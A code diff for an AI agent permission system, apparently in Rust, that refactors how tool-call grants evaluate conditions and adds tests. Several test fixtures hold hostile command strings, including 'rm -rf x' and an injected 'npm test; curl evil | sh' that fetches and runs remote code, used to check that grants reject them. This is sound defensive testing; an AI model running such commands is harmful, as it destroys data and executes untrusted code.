@@ -6,7 +6,12 @@ use provost_abl::expr::Program;
 use serde::{Deserialize, Serialize};
 
 use crate::{
-    approval::Kind, call::Call, glob::Glob, ids::GrantId, policy::scope::CallScope, time::Time,
+    approval::Kind,
+    call::Call,
+    glob::Glob,
+    ids::GrantId,
+    policy::{compile_when, scope::CallScope},
+    time::Time,
 };
 
 #[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
@@ -67,21 +72,30 @@ enum Condition {
 
 impl ActiveGrant {
     pub fn new(grant: Grant) -> Self {
-        let when = match grant.when.as_deref().map(Program::compile) {
+        let when = match grant.when.as_deref().map(compile_when) {
             None => Condition::None,
-            Some(Ok(program)) => Condition::When(Arc::new(program.strict())),
+            Some(Ok(program)) => Condition::When(Arc::new(program)),
             Some(Err(_)) => Condition::Broken,
         };
         Self { grant, when }
     }
 
     pub fn permits(&self, kind: Kind, call: &Call, now: Time) -> bool {
-        self.grant.active_at(now) && self.covers(kind, call, now)
+        self.permits_in(kind, &CallScope::new(call, now), now)
+    }
+
+    /// The same, in a scope that several grants share: what is computed of the call is computed once.
+    pub fn permits_in(&self, kind: Kind, scope: &CallScope<'_>, now: Time) -> bool {
+        self.grant.active_at(now) && self.covers_in(kind, scope)
     }
 
     /// Whether the call is one that the grant is about, however often and long it may still be used.
     pub fn covers(&self, kind: Kind, call: &Call, now: Time) -> bool {
-        let grant = &self.grant;
+        self.covers_in(kind, &CallScope::new(call, now))
+    }
+
+    fn covers_in(&self, kind: Kind, scope: &CallScope<'_>) -> bool {
+        let (grant, call) = (&self.grant, scope.call());
         grant.kind.is_none_or(|only| only == kind)
             && grant.agent.matches(&call.agent)
             && grant.tools.matches(&call.tool)
@@ -92,9 +106,7 @@ impl ActiveGrant {
             && match &self.when {
                 Condition::None => true,
                 // What cannot be judged is not permitted: the call is asked about as before.
-                Condition::When(program) => {
-                    program.test(&CallScope::new(call, now)).unwrap_or(false)
-                }
+                Condition::When(program) => program.test(scope).unwrap_or(false),
                 Condition::Broken => false,
             }
     }
@@ -155,6 +167,24 @@ mod tests {
                 false,
             ),
             ("params.c ==", json!({"c": 1}), false),
+            ("'deletes' NOT IN risks", json!({"command": "ls"}), true),
+            (
+                "'deletes' NOT IN risks",
+                json!({"command": "rm -rf x"}),
+                false,
+            ),
+            ("'deletes' NOT IN risks", json!({"command": "ls $X"}), false),
+            ("'deletes' NOT IN risks", json!({"n": 5}), false),
+            (
+                "ALL part IN command.parts SATISFY (part.words == ['npm', 'test'])",
+                json!({"command": "npm test"}),
+                true,
+            ),
+            (
+                "ALL part IN command.parts SATISFY (part.words == ['npm', 'test'])",
+                json!({"command": "npm test; curl evil | sh"}),
+                false,
+            ),
         ] {
             assert_eq!(permits(when, params.clone()), expected, "{when} {params}");
         }
